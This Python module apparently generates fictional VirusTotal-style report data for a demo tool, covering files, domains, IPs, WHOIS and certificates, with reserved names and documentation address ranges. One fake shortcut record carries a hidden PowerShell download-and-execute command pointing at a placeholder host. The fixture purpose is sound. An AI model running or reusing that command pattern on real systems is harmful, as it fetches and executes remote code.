"""Specs of fictional objects and the functions that turn them into v3 attributes.

Everything here is pure and deterministic: the same spec gives the same attributes.
Names are fictional and under reserved names (``.test``, ``.example``, ``.invalid``);
addresses come from the documentation ranges (192.0.2.0/24, 198.51.100.0/24,
203.0.113.0/24, 2001:db8::/32); AS numbers from the documentation range 64496-64511.
"""

from __future__ import annotations

import datetime as _dt
import hashlib
from dataclasses import dataclass, field

from . import engines as eng

#: "Now" of the dataset: every fixed timestamp is relative to it (2026-08-06 09:41:27 UTC).
T = 1786009287
DAY = 86400
HOUR = 3600

_FILLER_LINE = b"This file is harmless filler made by the vttui demo backend. It is not malware.\n"


def harmless_content(key: str, size: int) -> bytes:
    """The bytes a demo file "is": plain text, never executable, never a test signature."""
    head = f"vttui demo sample {key}\n".encode()
    size = max(size, len(head))
    body = head + _FILLER_LINE * (size // len(_FILLER_LINE) + 1)
    return body[:size]


def hexid(*parts: object, n: int = 64) -> str:
    """A stable hex string (for thumbprints, ids, imphashes...)."""
    out = hashlib.sha256("\x1f".join(map(str, parts)).encode()).hexdigest()
    while len(out) < n:
        out += hashlib.sha256(out.encode()).hexdigest()
    return out[:n]


def iso(epoch: int) -> str:
    return _dt.datetime.fromtimestamp(epoch, _dt.UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def cert_time(epoch: int) -> str:
    return _dt.datetime.fromtimestamp(epoch, _dt.UTC).strftime("%Y-%m-%d %H:%M:%S")


def _expiry(created: int) -> int:
    """The next yearly renewal after "now" (registrations renew in whole years)."""
    years = max(1, -(-(T - created) // (365 * DAY)))
    return created + years * 365 * DAY


def _updated(created: int) -> int:
    return max(created + 2 * DAY, T - 61 * DAY)


def registered_domain(host: str) -> str:
    labels = host.split(".")
    return ".".join(labels[-2:]) if len(labels) >= 2 else host


# --- specs --------------------------------------------------------------------------


@dataclass(frozen=True)
class FileSpec:
    key: str
    name: str
    size: int
    kind: str  # pe | dll | pdf | ps1 | docm | lnk | txt | bin
    malicious: int = 0
    suspicious: int = 0
    family: str = ""
    threat: str = "trojan"
    platform: str = "Win32"
    first_seen: int = T - 40 * DAY
    analysed: int = T - DAY
    times_submitted: int = 3
    names: tuple[str, ...] = ()
    tags: tuple[str, ...] = ()
    signature: str = ""  # "" (none), "valid", "invalid"
    reputation: int = 0
    failures: int = 0
    timeouts: int = 0
    #: Extra detail blocks: "full" adds sandbox verdicts, yara, sigma, threat classification.
    detail: str = ""


@dataclass(frozen=True)
class DomainSpec:
    name: str
    created: int
    registrar: str = "Hostvale Domains Ltd."
    malicious: int = 0
    suspicious: int = 0
    verdict: str = "malware"
    categories: tuple[tuple[str, str], ...] = ()
    popularity: tuple[tuple[str, int], ...] = ()
    tags: tuple[str, ...] = ()
    reputation: int = 0
    issuer: tuple[str, str, str] = ("US", "Example Trust Services", "ETS R3")
    mx: str = ""
    txt: tuple[str, ...] = ()
    nameservers: tuple[str, ...] = ("ns1.hostvale-dns.test", "ns2.hostvale-dns.test")
    privacy: bool = True
    analysed: int = T - 2 * DAY


@dataclass(frozen=True)
class IPSpec:
    ip: str
    asn: int
    as_owner: str
    country: str
    continent: str
    network: str
    rir: str = "RIPE NCC"
    malicious: int = 0
    suspicious: int = 0
    verdict: str = "malware"
    tags: tuple[str, ...] = ()
    reputation: int = 0
    org: str = ""
    city: str = ""
    context: tuple[tuple[str, str, str], ...] = ()  # (title, details, severity)
    tls_host: str = ""
    analysed: int = T - 2 * DAY


@dataclass(frozen=True)
class URLSpec:
    url: str
    malicious: int = 0
    suspicious: int = 0
    verdict: str = "malware"
    title: str = ""
    redirects: tuple[str, ...] = ()
    status: int = 200
    content_type: str = "text/html; charset=UTF-8"
    server: str = "nginx"
    content_length: int = 5120
    categories: tuple[tuple[str, str], ...] = ()
    outgoing: tuple[str, ...] = ()
    threat_names: tuple[str, ...] = ()
    tags: tuple[str, ...] = ()
    first_seen: int = T - 20 * DAY
    analysed: int = T - DAY
    reputation: int = 0
    times_submitted: int = 4


# --- files --------------------------------------------------------------------------

_KINDS: dict[str, dict] = {
    "pe": {
        "type_description": "Win32 EXE", "type_tag": "peexe", "type_extension": "exe",
        "magic": "PE32 executable (GUI) Intel 80386, for MS Windows", "magika": "PEBIN",
        "type_tags": ["executable", "windows", "win32", "pe", "peexe"],
        "trid": [("Win32 Executable MS Visual C++ (generic)", 47.3), ("Win64 Executable (generic)", 15.9),
                 ("Win32 Dynamic Link Library (generic)", 9.8), ("Win16 NE executable (generic)", 7.6),
                 ("Win32 Executable (generic)", 6.7)],
    },
    "dll": {
        "type_description": "Win32 DLL", "type_tag": "pedll", "type_extension": "dll",
        "magic": "PE32 executable (DLL) (GUI) Intel 80386, for MS Windows", "magika": "PEBIN",
        "type_tags": ["executable", "windows", "win32", "pe", "pedll"],
        "trid": [("Win32 Dynamic Link Library (generic)", 38.4), ("Win32 Executable (generic)", 26.3),
                 ("Generic Win/DOS Executable", 11.7), ("DOS Executable Generic", 11.7)],
    },
    "pdf": {
        "type_description": "PDF", "type_tag": "pdf", "type_extension": "pdf",
        "magic": "PDF document, version 1.7", "magika": "PDF", "type_tags": ["document", "pdf"],
        "trid": [("Adobe Portable Document Format", 100.0)],
    },
    "ps1": {
        "type_description": "Powershell", "type_tag": "powershell", "type_extension": "ps1",
        "magic": "ASCII text, with very long lines (1024), with CRLF line terminators", "magika": "POWERSHELL",
        "type_tags": ["source", "powershell", "ps", "ps1"], "trid": [],
    },
    "docm": {
        "type_description": "Office Open XML Document", "type_tag": "docx", "type_extension": "docm",
        "magic": "Microsoft Word 2007+", "magika": "DOCX", "type_tags": ["document", "msoffice", "docx"],
        "trid": [("Word Microsoft Office Open XML Format document (with Macro)", 52.2),
                 ("Word Microsoft Office Open XML Format document", 23.2), ("Open Packaging Conventions container", 17.3),
                 ("ZIP compressed archive", 3.9)],
    },
    "lnk": {
        "type_description": "Windows shortcut", "type_tag": "lnk", "type_extension": "lnk",
        "magic": "MS Windows shortcut, Item id list present, Has Relative path, Has command line arguments",
        "magika": "LNK", "type_tags": ["windows", "lnk"], "trid": [("Windows Shortcut", 100.0)],
    },
    "txt": {
        "type_description": "Text", "type_tag": "text", "type_extension": "txt", "magic": "ASCII text",
        "magika": "TXT", "type_tags": ["text"], "trid": [("Text - UTF-8 encoded", 100.0)],
    },
    "bin": {
        "type_description": "unknown", "type_tag": "unknown", "type_extension": "bin", "magic": "data",
        "magika": "UNKNOWN", "type_tags": [], "trid": [],
    },
}


def kind_of_head(head: bytes) -> str:
    """Guess a demo kind from the first bytes of an uploaded file."""
    if head.startswith(b"MZ"):
        return "pe"
    if head.startswith(b"%PDF"):
        return "pdf"
    if head.startswith(b"PK\x03\x04"):
        return "docm"
    if head.startswith(b"L\x00\x00\x00"):
        return "lnk"
    sample = head[:1024]
    if sample and all(b in b"\t\n\r\x0c" or 32 <= b < 127 for b in sample):
        return "txt"
    return "bin"


def file_attributes(spec: FileSpec, md5: str, sha1: str, sha256: str) -> dict:
    """Every attribute of a demo file report."""
    info = _KINDS[spec.kind]
    results = eng.file_results(
        md5=md5, analysis_date=spec.analysed, malicious=spec.malicious, family=spec.family or "Generic",
        kind=spec.threat, platform=spec.platform, file_kind="pe" if spec.kind in ("pe", "dll") else "other",
        suspicious=spec.suspicious, timeouts=spec.timeouts, failures=spec.failures,
    )
    names = list(spec.names) or [spec.name]
    attrs: dict = {
        "type_description": info["type_description"], "type_tag": info["type_tag"],
        "type_extension": info["type_extension"], "type_tags": list(info["type_tags"]),
        "magic": info["magic"], "magika": info["magika"],
        "trid": [{"file_type": t, "probability": p} for t, p in info["trid"]],
        "md5": md5, "sha1": sha1, "sha256": sha256, "size": spec.size,
        "ssdeep": f"{max(3, spec.size // 4096)}:{hexid('ssdeep', sha256, n=24)}:{hexid('ssdeep2', sha256, n=18)}",
        "tlsh": "T1" + hexid("tlsh", sha256, n=70).upper(),
        "vhash": hexid("vhash", sha256, n=24),
        "names": names, "meaningful_name": spec.name,
        "tags": list(spec.tags) or list(info["type_tags"][-1:]),
        "first_submission_date": spec.first_seen, "last_submission_date": spec.analysed - 3 * HOUR,
        "first_seen_itw_date": spec.first_seen - 2 * DAY,
        "last_analysis_date": spec.analysed, "last_modification_date": spec.analysed + 7 * 60,
        "times_submitted": spec.times_submitted, "unique_sources": max(1, spec.times_submitted // 2),
        "reputation": spec.reputation, "total_votes": {"harmless": 0, "malicious": 0},
        "last_analysis_results": results, "last_analysis_stats": eng.stats_of(results),
    }
    if spec.kind in ("pe", "dll"):
        attrs["pe_info"] = pe_info(spec, sha256)
        attrs["authentihash"] = hexid("authentihash", sha256)
        attrs["creation_date"] = attrs["pe_info"]["timestamp"]
        attrs["detectiteasy"] = {"filetype": "PE32", "values": [
            {"type": "Compiler", "name": "Microsoft Visual C/C++", "version": "19.36.32537"},
            {"type": "Linker", "name": "Microsoft Linker", "version": "14.36.32537"},
            {"type": "Tool", "name": "Visual Studio", "version": "2022 version 17.6"}]}
        attrs["exiftool"] = _exif_pe(spec, attrs["pe_info"])
        attrs["packers"] = {"PEiD": "Microsoft Visual C++ 8"}
    elif spec.kind == "pdf":
        attrs["pdf_info"] = {"header": "%PDF-1.7", "obj": 38, "endobj": 38, "stream": 12, "endstream": 12,
                             "xref": 1, "trailer": 1, "startxref": 1, "num_object_streams": 2, "num_pages": 6,
                             "js": 0, "javascript": 0, "openaction": 0, "launch_action_count": 0,
                             "acroform": 0, "embedded_file": 0, "encrypted": 0, "flash": 0, "jbig2_compression": 0,
                             "suspicious_colors": 0}
        attrs["exiftool"] = {"FileType": "PDF", "FileTypeExtension": "pdf", "MIMEType": "application/pdf",
                             "PDFVersion": "1.7", "Linearized": "No", "PageCount": "6", "Language": "en-GB",
                             "Producer": "Example Office Suite 8.2", "Creator": "Example Writer",
                             "CreateDate": "2026:07:14 08:12:40+01:00", "ModifyDate": "2026:07:14 08:12:40+01:00",
                             "Title": "Quarterly report Q2 2026", "Author": "Finance team"}
    elif spec.kind == "ps1":
        attrs["powershell_info"] = {"cmdlets": ["invoke-webrequest", "start-process", "new-object", "set-itemproperty",
                                                "start-sleep"],
                                    "cmdlets_alias": ["iex", "iwr"], "dotnet_calls": ["System.Net.WebClient",
                                                                                       "System.Convert"],
                                    "functions": ["Get-Beacon", "Invoke-Stage"], "ps_variables": ["$u", "$k", "$p"]}
        attrs["exiftool"] = {"MIMEType": "text/plain", "FileType": "TXT", "FileTypeExtension": "txt",
                             "MIMEEncoding": "us-ascii", "Newlines": "Windows CRLF", "LineCount": "87", "WordCount": "412"}
    elif spec.kind == "docm":
        attrs["office_info"] = {"entries": [{"name": "word/vbaProject.bin", "size": 18432, "type": "vba"}],
                                "document_summary_info": {"application_name": "Microsoft Office Word"},
                                "summary_info": {"author": "Accounts", "last_author": "Accounts",
                                                 "title": "Invoice July 2026", "creation_datetime": "2026-07-21 07:58:00"},
                                "macros": [{"vba_code": "AutoOpen", "length": 2048, "properties": ["auto-open",
                                                                                                   "downloads-files"]}]}
        attrs["exiftool"] = {"FileType": "DOCM", "FileTypeExtension": "docm",
                             "MIMEType": "application/vnd.ms-word.document.macroEnabled.12", "Application": "Microsoft Office Word",
                             "Pages": "1", "Words": "73", "Template": "Normal.dotm"}
    elif spec.kind == "lnk":
        attrs["lnk_info"] = {"target": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                             "command_line_arguments": "-w hidden -ep bypass -c \"iwr http://dl.paste-drop.test/raw/7Hq2xk|iex\"",
                             "icon_location": "%SystemRoot%\\System32\\shell32.dll", "machine_id": "desktop-9k2jq1f"}
        attrs["exiftool"] = {"FileType": "LNK", "FileTypeExtension": "lnk", "MIMEType": "application/octet-stream",
                             "TargetFileSize": "452608", "RunWindow": "Show Minimized No Activate"}
    elif spec.kind == "txt":
        attrs["exiftool"] = {"MIMEType": "text/plain", "FileType": "TXT", "FileTypeExtension": "txt",
                             "MIMEEncoding": "us-ascii", "Newlines": "Unix LF", "LineCount": str(max(1, spec.size // 80))}
    if spec.signature == "valid":
        attrs["signature_info"] = _signature_valid(spec, sha256)
    elif spec.signature == "invalid":
        attrs["signature_info"] = _signature_invalid(spec, sha256)
    elif spec.kind in ("pe", "dll"):
        attrs["signature_info"] = {"file version": "1.0.0.1", "original name": spec.name,
                                   "internal name": spec.name.rsplit(".", 1)[0], "product": "Invoice Viewer"}
    if spec.malicious and spec.family:
        attrs["popular_threat_classification"] = threat_classification(spec)
    if spec.detail == "full":
        attrs.update(_full_detail(spec, sha256))
    return attrs


def threat_classification(spec: FileSpec) -> dict:
    n = spec.malicious
    return {
        "suggested_threat_label": f"{spec.threat}.{spec.family}/{'loader' if spec.threat == 'trojan' else 'psdl'}",
        "popular_threat_category": [{"value": spec.threat, "count": max(1, n * 2 // 3)},
                                    {"value": "downloader", "count": max(1, n // 5)}],
        "popular_threat_name": [{"value": spec.family, "count": max(1, n // 2)},
                                {"value": "loader", "count": max(1, n // 6)}, {"value": "genkryptik", "count": 3}],
    }


def pe_info(spec: FileSpec, sha256: str) -> dict:
    """Sections with entropy, imports, no exports, a rich header: a believable PE32."""
    text_size = (spec.size * 6 // 10) // 512 * 512
    rdata = (spec.size * 2 // 10) // 512 * 512
    data = 4096
    rsrc = max(512, (spec.size - text_size - rdata - data - 1024) // 512 * 512)
    sections = []
    va = 0x1000
    for name, raw, entropy, flags in ((".text", text_size, 6.61, "rx"), (".rdata", rdata, 5.12, "r"),
                                      (".data", data, 2.37, "rw"), (".rsrc", rsrc, 7.42 if spec.malicious else 4.81, "r")):
        virtual = raw + (0x340 if name == ".data" else 0)
        sections.append({"name": name, "chi2": round(float(hnum_small(sha256, name) * 97.3), 2),
                         "virtual_address": va, "entropy": entropy, "raw_size": raw, "flags": flags,
                         "virtual_size": virtual, "md5": hexid("section", sha256, name, n=32)})
        va += (virtual + 0xFFF) // 0x1000 * 0x1000
    imports = [
        {"library_name": "KERNEL32.dll", "imported_functions": [
            "CreateFileW", "CreateProcessW", "GetModuleHandleW", "GetProcAddress", "LoadLibraryW", "VirtualAlloc",
            "VirtualProtect", "WriteProcessMemory", "CreateRemoteThread", "Sleep", "GetTickCount", "IsDebuggerPresent",
            "GetSystemInfo", "CloseHandle"]},
        {"library_name": "ADVAPI32.dll", "imported_functions": ["RegOpenKeyExW", "RegSetValueExW", "RegCloseKey",
                                                                  "CryptAcquireContextW", "CryptGenRandom"]},
        {"library_name": "WININET.dll", "imported_functions": ["InternetOpenW", "InternetConnectW", "HttpOpenRequestW",
                                                                 "HttpSendRequestW", "InternetReadFile"]},
        {"library_name": "USER32.dll", "imported_functions": ["MessageBoxW", "GetSystemMetrics", "wsprintfW"]},
    ] if spec.malicious else [
        {"library_name": "KERNEL32.dll", "imported_functions": ["CreateFileW", "GetModuleHandleW", "GetProcAddress",
                                                                 "LoadLibraryW", "ReadFile", "WriteFile", "CloseHandle",
                                                                 "GetLastError", "HeapAlloc", "HeapFree"]},
        {"library_name": "SHELL32.dll", "imported_functions": ["ShellExecuteW", "SHGetFolderPathW"]},
        {"library_name": "USER32.dll", "imported_functions": ["MessageBoxW", "DialogBoxParamW", "EndDialog"]},
        {"library_name": "COMCTL32.dll", "imported_functions": ["InitCommonControlsEx"]},
    ]
    info = {
        "timestamp": spec.first_seen - 9 * DAY - 31337, "machine_type": 332, "entry_point": 0x1000 + text_size // 3,
        "imphash": hexid("imphash", spec.family, spec.malicious > 0, n=32),
        "rich_pe_header_hash": hexid("rich", spec.family, n=32),
        "compiler_product_versions": ["[IMP] VS2008 SP1 build 30729 count=9", "[ C ] VS2022 v17.6 build 32537 count=41",
                                      "[C++] VS2022 v17.6 build 32537 count=112", "[RES] VS2022 v17.6 build 32537 count=1",
                                      "[LNK] VS2022 v17.6 build 32537 count=1"],
        "sections": sections, "import_list": imports,
        "resource_details": [{"lang": "ENGLISH US", "chi2": 4210.5, "filetype": "ICO", "entropy": 3.02,
                              "sha256": hexid("res-icon", sha256), "type": "RT_GROUP_ICON"},
                             {"lang": "ENGLISH US", "chi2": 25893.8, "filetype": "Data", "entropy": 3.41,
                              "sha256": hexid("res-ver", sha256), "type": "RT_VERSION"},
                             {"lang": "ENGLISH US", "chi2": 1843.7, "filetype": "XML", "entropy": 4.91,
                              "sha256": hexid("res-manifest", sha256), "type": "RT_MANIFEST"}],
        "resource_langs": {"ENGLISH US": 3}, "resource_types": {"RT_GROUP_ICON": 1, "RT_VERSION": 1, "RT_MANIFEST": 1},
        "overlay": {"entropy": 7.98, "offset": spec.size - 1024, "chi2": 251.4, "filetype": "unknown", "size": 1024,
                    "md5": hexid("overlay", sha256, n=32)},
    }
    if not spec.malicious:
        del info["overlay"]
    return info


def hnum_small(*parts: object) -> int:
    return eng.hnum(*parts) % 100000


def _exif_pe(spec: FileSpec, pe: dict) -> dict:
    stamp = _dt.datetime.fromtimestamp(pe["timestamp"], _dt.UTC).strftime("%Y:%m:%d %H:%M:%S+00:00")
    return {"MIMEType": "application/octet-stream", "FileType": "Win32 EXE" if spec.kind == "pe" else "Win32 DLL",
            "FileTypeExtension": spec.kind if spec.kind == "dll" else "exe", "MachineType": "Intel 386 or later, and compatibles",
            "TimeStamp": stamp, "PEType": "PE32", "LinkerVersion": "14.36", "CodeSize": str(pe["sections"][0]["raw_size"]),
            "InitializedDataSize": str(sum(s["raw_size"] for s in pe["sections"][1:])), "UninitializedDataSize": "0",
            "EntryPoint": hex(pe["entry_point"]), "OSVersion": "6.0", "ImageVersion": "0.0", "SubsystemVersion": "6.0",
            "Subsystem": "Windows GUI", "FileVersionNumber": "1.0.0.1", "ProductVersionNumber": "1.0.0.1",
            "FileFlagsMask": "0x003f", "FileOS": "Windows NT 32-bit", "ObjectFileType": "Executable application",
            "LanguageCode": "English (U.S.)", "CharacterSet": "Unicode", "OriginalFileName": spec.name}


def _x509(name: str, issuer: str, serial_seed: str, valid_from: int, valid_to: int, usage: str) -> dict:
    return {"name": name, "algorithm": "sha256RSA", "valid usage": usage, "cert issuer": issuer,
            "valid from": cert_time(valid_from), "valid to": cert_time(valid_to),
            "serial number": " ".join(hexid("serial", serial_seed, n=32)[i:i + 2].upper() for i in range(0, 32, 2)),
            "thumbprint": hexid("thumb", serial_seed, n=40).upper(),
            "thumbprint_md5": hexid("thumbmd5", serial_seed, n=32).upper(),
            "thumbprint_sha256": hexid("thumb256", serial_seed).upper()}


def _signature_valid(spec: FileSpec, sha256: str) -> dict:
    signed = spec.first_seen - 5 * DAY
    return {
        "verified": "Signed", "signing date": _dt.datetime.fromtimestamp(signed, _dt.UTC).strftime("%I:%M %p %m/%d/%Y"),
        "signers": "Example Software Ltd.; Example Code Signing CA R2; Example Root CA",
        "signers details": [
            {"status": "Valid", **_x509("Example Software Ltd.", "Example Code Signing CA R2", "sw-leaf",
                                        T - 300 * DAY, T + 430 * DAY, "Code Signing")},
            {"status": "Valid", **_x509("Example Code Signing CA R2", "Example Root CA", "sw-ca",
                                        T - 2000 * DAY, T + 1600 * DAY, "Code Signing")},
            {"status": "Valid", **_x509("Example Root CA", "Example Root CA", "sw-root",
                                        T - 5000 * DAY, T + 4000 * DAY, "All")}],
        "counter signers": "Example Timestamping Authority 2026; Example Root CA",
        "counter signers details": [
            {"status": "Valid", **_x509("Example Timestamping Authority 2026", "Example Root CA", "sw-ts",
                                        T - 200 * DAY, T + 3000 * DAY, "Timestamp Signing")}],
        "x509": [_x509("Example Software Ltd.", "Example Code Signing CA R2", "sw-leaf", T - 300 * DAY, T + 430 * DAY,
                       "Code Signing")],
        "product": "ExampleSync", "description": "ExampleSync Setup", "copyright": "Copyright \u00a9 2026 Example Software Ltd.",
        "original name": spec.name, "internal name": "setup", "file version": "4.2.1.0",
    }


def _signature_invalid(spec: FileSpec, sha256: str) -> dict:
    return {
        "verified": "A certificate was explicitly revoked by its issuer.",
        "signing date": _dt.datetime.fromtimestamp(spec.first_seen - 2 * DAY, _dt.UTC).strftime("%I:%M %p %m/%d/%Y"),
        "signers": "Brightline Media Tools S.R.L.; Example Code Signing CA R2; Example Root CA",
        "signers details": [
            {"status": "Revoked", **_x509("Brightline Media Tools S.R.L.", "Example Code Signing CA R2", "bl-leaf",
                                          T - 400 * DAY, T + 200 * DAY, "Code Signing")},
            {"status": "Valid", **_x509("Example Code Signing CA R2", "Example Root CA", "sw-ca",
                                        T - 2000 * DAY, T + 1600 * DAY, "Code Signing")}],
        "x509": [_x509("Brightline Media Tools S.R.L.", "Example Code Signing CA R2", "bl-leaf", T - 400 * DAY,
                       T + 200 * DAY, "Code Signing")],
        "product": "Invoice Viewer", "description": "Invoice Viewer", "file version": "2.4.0.117",
        "original name": spec.name, "internal name": "invview", "copyright": "Copyright (C) 2025",
    }


def _full_detail(spec: FileSpec, sha256: str) -> dict:
    fam = spec.family.capitalize()
    when = spec.analysed - 2 * HOUR
    return {
        "sandbox_verdicts": {
            "CAPE Sandbox": {"category": "malicious", "sandbox_name": "CAPE Sandbox", "malware_classification": ["TROJAN", "LOADER"],
                             "malware_names": [fam]},
            "Zenbox": {"category": "malicious", "sandbox_name": "Zenbox", "malware_classification": ["MALWARE", "TROJAN", "EVADER"],
                       "malware_names": [fam, f"{fam}Loader"], "confidence": 94},
        },
        "crowdsourced_yara_results": [
            {"ruleset_id": hexid("yara1", n=10), "ruleset_name": f"{spec.family}_loader", "rule_name": f"MAL_{fam}_Loader_Strings",
             "match_date": when, "description": f"Detects {fam} loader by its config marker and mutex strings",
             "author": "Example Threat Research", "source": "https://rules.example.org/yara/vexbot"},
            {"ruleset_id": hexid("yara2", n=10), "ruleset_name": "indicator_suspicious", "rule_name": "SUSP_Run_Key_Persistence",
             "match_date": when, "description": "Detects binaries referencing Run-key persistence",
             "author": "Example Community Rules", "source": "https://rules.example.org/yara/generic"},
        ],
        "sigma_analysis_stats": {"critical": 0, "high": 1, "medium": 2, "low": 1},
        "sigma_analysis_summary": {"Sigma Integrated Rule Set (GitHub)": {"critical": 0, "high": 1, "medium": 2, "low": 1}},
        "crowdsourced_ids_stats": {"high": 1, "medium": 1, "low": 0, "info": 2},
        "crowdsourced_ids_results": [
            {"rule_category": "A Network Trojan was detected", "alert_severity": "high",
             "rule_msg": f"ET MALWARE {fam} CnC Beacon (POST /gate.php)", "rule_id": "1:2999001",
             "rule_source": "Example Emerging Rules", "rule_url": "https://rules.example.org/ids/",
             "alert_context": [{"dest_ip": "198.51.100.23", "dest_port": 80, "hostname": "api.update-relay.test"}]},
            {"rule_category": "Potentially Bad Traffic", "alert_severity": "medium",
             "rule_msg": "ET INFO External IP Lookup Domain in DNS Query", "rule_id": "1:2999002",
             "rule_source": "Example Emerging Rules", "rule_url": "https://rules.example.org/ids/",
             "alert_context": [{"dest_ip": "192.0.2.10", "dest_port": 80, "hostname": "checkip.netinfo.example"}]},
        ],
        "threat_severity": {"version": "2", "threat_severity_level": "SEVERITY_HIGH",
                            "threat_severity_data": {"num_gav_detections": 5, "has_dropped_files_with_detections": True,
                                                     "type_tag": "peexe", "popular_threat_category": "trojan"},
                            "last_analysis_date": str(spec.analysed), "level_description": "Severity HIGH"},
        "capabilities_tags": ["str_win32_winsock2_library", "persistence", "inject_thread", "win_registry", "network_http"],
    }


# --- domains and IPs ----------------------------------------------------------------


def domain_whois(spec: DomainSpec) -> str:
    reg_slug = spec.registrar.split()[0].lower()
    expires = _expiry(spec.created)
    lines = [
        f"Domain Name: {spec.name.upper()}", f"Registry Domain ID: D{eng.hnum('regid', spec.name) % 10**12}-{spec.name.rsplit('.', 1)[-1].upper()}",
        f"Registrar WHOIS Server: whois.{reg_slug}-domains.test", f"Registrar URL: https://www.{reg_slug}-domains.test",
        f"Updated Date: {iso(_updated(spec.created))}", f"Creation Date: {iso(spec.created)}",
        f"Registry Expiry Date: {iso(expires)}", f"Registrar: {spec.registrar}", "Registrar IANA ID: 9999",
        f"Registrar Abuse Contact Email: abuse@{reg_slug}-domains.test", "Registrar Abuse Contact Phone: +1.5555550123",
        "Domain Status: clientTransferProhibited https://icann.org/epp#clientTransferProhibited",
    ]
    lines += [f"Name Server: {ns.upper()}" for ns in spec.nameservers]
    lines.append("DNSSEC: unsigned")
    if spec.privacy:
        lines += ["Registrant Organization: Privacy Guard Example ehf", "Registrant State/Province: Capital Region",
                  "Registrant Country: IS", f"Registrant Email: {hexid('mail', spec.name, n=17)}@privacy-guard.example",
                  "Admin Email: REDACTED FOR PRIVACY", "Tech Email: REDACTED FOR PRIVACY"]
    else:
        lines += [f"Registrant Organization: {spec.name.split('.')[-2].capitalize()} Example Inc.", "Registrant Country: US",
                  "Registrant State/Province: CA", f"Registrant Email: hostmaster@{registered_domain(spec.name)}"]
    return "\n".join(lines)


def certificate(host: str, issuer: tuple[str, str, str], not_before: int, days: int = 90) -> dict:
    sans = [host] if host.count(".") > 1 else [host, f"*.{host}"]
    return {
        "cert_signature": {"signature_algorithm": "sha256RSA", "signature": hexid("sig", host, n=512)},
        "extensions": {
            "key_usage": ["digitalSignature", "keyEncipherment"], "extended_key_usage": ["serverAuth", "clientAuth"],
            "CA": False, "subject_key_identifier": hexid("ski", host, n=40),
            "authority_key_identifier": {"keyid": hexid("aki", issuer[2], n=40)},
            "ca_information_access": {"CA Issuers": f"http://pki.trust-services.example/{issuer[2].replace(' ', '').lower()}.crt",
                                      "OCSP": "http://ocsp.trust-services.example"},
            "subject_alternative_name": sans, "certificate_policies": ["2.23.140.1.2.1"],
            "crl_distribution_points": [f"http://crl.trust-services.example/{issuer[2].replace(' ', '').lower()}.crl"],
        },
        "validity": {"not_before": cert_time(not_before), "not_after": cert_time(not_before + days * DAY)},
        "size": 1296, "version": "V3",
        "public_key": {"algorithm": "RSA", "rsa": {"modulus": hexid("mod", host, n=512), "exponent": "010001", "key_size": 2048}},
        "thumbprint_sha256": hexid("tp256", host), "thumbprint": hexid("tp1", host, n=40),
        "serial_number": hexid("serial", host, n=32),
        "issuer": {"C": issuer[0], "O": issuer[1], "CN": issuer[2]}, "subject": {"CN": host},
    }


def dns_records(spec: DomainSpec, a: list[str], aaaa: list[str]) -> list[dict]:
    records: list[dict] = [{"type": "A", "ttl": 300, "value": ip} for ip in a]
    records += [{"type": "AAAA", "ttl": 300, "value": ip} for ip in aaaa]
    records += [{"type": "NS", "ttl": 86400, "value": ns} for ns in spec.nameservers]
    if spec.mx:
        records.append({"type": "MX", "ttl": 3600, "priority": 10, "value": spec.mx})
    records += [{"type": "TXT", "ttl": 3600, "value": txt} for txt in spec.txt]
    zone = registered_domain(spec.name)
    records.append({"type": "SOA", "ttl": 3600, "value": spec.nameservers[0], "rname": f"hostmaster.{zone}",
                    "serial": int(_dt.datetime.fromtimestamp(spec.analysed, _dt.UTC).strftime("%Y%m%d01")),
                    "refresh": 10800, "retry": 3600, "expire": 604800, "minimum": 3600})
    if not spec.malicious:
        records.append({"type": "CAA", "ttl": 3600, "flag": 0, "tag": "issue", "value": "trust-services.example"})
    return records


def domain_attributes(spec: DomainSpec, a: list[str], aaaa: list[str]) -> dict:
    results = eng.host_results(eng.HOST_ENGINES, salt=spec.name, malicious=spec.malicious,
                               suspicious=spec.suspicious, verdict=spec.verdict)
    attrs = {
        "tld": spec.name.rsplit(".", 1)[-1], "creation_date": spec.created, "expiration_date": _expiry(spec.created),
        "last_update_date": _updated(spec.created), "registrar": spec.registrar, "whois": domain_whois(spec),
        "whois_date": spec.analysed - 3 * DAY, "reputation": spec.reputation, "tags": list(spec.tags),
        "categories": dict(spec.categories),
        "popularity_ranks": {name: {"rank": rank, "timestamp": spec.analysed - DAY} for name, rank in spec.popularity},
        "jarm": ("2ad2ad0002ad2ad00042d42d00000" + hexid("jarm", spec.name, n=33)) if (a or aaaa) else "",
        "last_dns_records": dns_records(spec, a, aaaa), "last_dns_records_date": spec.analysed,
        "last_analysis_date": spec.analysed, "last_modification_date": spec.analysed + 15 * 60,
        "last_analysis_results": results, "last_analysis_stats": eng.stats_of(results, kind="host"),
        "total_votes": {"harmless": 0, "malicious": 0},
    }
    if a or aaaa:
        attrs["last_https_certificate"] = certificate(spec.name, spec.issuer, spec.analysed - 30 * DAY)
        attrs["last_https_certificate_date"] = spec.analysed
    if not attrs["jarm"]:
        del attrs["jarm"]
    return attrs


def ip_whois(spec: IPSpec) -> str:
    if spec.rir == "ARIN":
        return "\n".join([
            f"NetRange: {spec.network}", f"CIDR: {spec.network}", f"NetName: {spec.as_owner.split()[0].upper()}-NET",
            f"NetHandle: NET-{spec.ip.replace('.', '-').replace(':', '-')}-1", "NetType: Direct Allocation",
            f"OriginAS: AS{spec.asn}", f"Organization: {spec.as_owner} ({spec.org or 'EXMPL'})",
            "RegDate: 2019-04-02", "Updated: 2025-11-18", f"OrgName: {spec.as_owner}", f"OrgId: {spec.org or 'EXMPL'}",
            "Address: 100 Example Way", f"City: {spec.city or 'Springfield'}", "StateProv: CA", "PostalCode: 90000",
            f"Country: {spec.country}", f"OrgAbuseEmail: abuse@{spec.as_owner.split()[0].lower()}.example",
            "OrgAbusePhone: +1-555-555-0199",
        ])
    return "\n".join([
        f"inetnum: {spec.network}", f"netname: {spec.as_owner.split()[0].upper()}-{spec.country}",
        f"country: {spec.country}", f"org: ORG-{spec.org or 'EX1'}-RIPE", "admin-c: EXA1-RIPE", "tech-c: EXA1-RIPE",
        "status: ASSIGNED PA", "mnt-by: EXAMPLE-MNT", "created: 2024-02-11T09:15:02Z",
        "last-modified: 2026-05-30T17:44:10Z", "source: RIPE", f"organisation: ORG-{spec.org or 'EX1'}-RIPE",
        f"org-name: {spec.as_owner}", "org-type: OTHER", f"address: {spec.city or 'Example City'}",
        f"abuse-mailbox: abuse@{spec.as_owner.split()[0].lower()}.example", f"route: {spec.network}",
        f"origin: AS{spec.asn}", "source: RIPE # Filtered",
    ])


